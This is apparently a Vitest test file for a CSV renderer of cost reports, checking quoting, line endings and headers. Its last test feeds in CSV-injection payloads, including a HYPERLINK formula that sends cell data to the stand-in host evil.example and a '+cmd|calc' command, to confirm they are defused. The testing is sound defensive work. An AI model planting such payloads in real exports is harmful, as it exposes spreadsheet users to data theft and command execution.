import { describe, expect, it } from 'vitest';
import type { CostReport } from './rate-usage.js';
import { CSV_HEADER, csvField, renderCsv } from './render-csv.js';

describe('renderCsv', () => {
  it('quotes fields per RFC 4180 and only when needed', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('')).toBe('');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
    expect(csvField("it's; fine")).toBe("it's; fine");
  });

  it('writes the header, CRLF line ends, and empty price fields for unpriced lines', () => {
    const report: CostReport = {
      currency: 'EUR',
      decimals: 2,
      totals: new Map([['t,1', 797n]]),
      warnings: [],
      lines: [
        {
          tenant: 't,1',
          meter: 'gpu_hours',
          attributes: { gpu_sku: 'sku "x"', capacity_type: 'spot', other: 'dropped' },
          unit: 'h',
          records: 3,
          nanos: 8_000_000_000n,
          charge: 'usage',
          price: { rate: '2.49', discountPercent: '60', amount: { minor: 797n, exact: '7.968' } },
        },
        {
          tenant: 't2',
          meter: 'node_hours',
          attributes: { zone: 'z1' },
          unit: 'h',
          records: 1,
          nanos: 1n,
          charge: 'usage',
        },
      ],
    };
    expect(renderCsv(report)).toBe(
      [
        CSV_HEADER.join(','),
        '"t,1",gpu_hours,"sku ""x""",,spot,,,,8.000000000,h,3,2.49,60,7.97,EUR',
        't2,node_hours,,,,,,z1,0.000000001,h,1,,,,',
        '',
      ].join('\r\n'),
    );
    expect(CSV_HEADER.join(',')).toBe(
      'tenant,meter,gpu_sku,mig_profile,capacity_type,instance_type,storage_class,zone,quantity,unit,records,rate,discount_percent,amount,currency',
    );
  });

  it('defuses values a spreadsheet would run as formulas (OWASP CSV injection), but not numbers', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"',
    );
    expect(csvField('+cmd|calc')).toBe("'+cmd|calc");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('-12.50')).toBe('-12.50');
    expect(csvField('+3')).toBe('+3');
    expect(csvField('team-a')).toBe('team-a');
  });
});
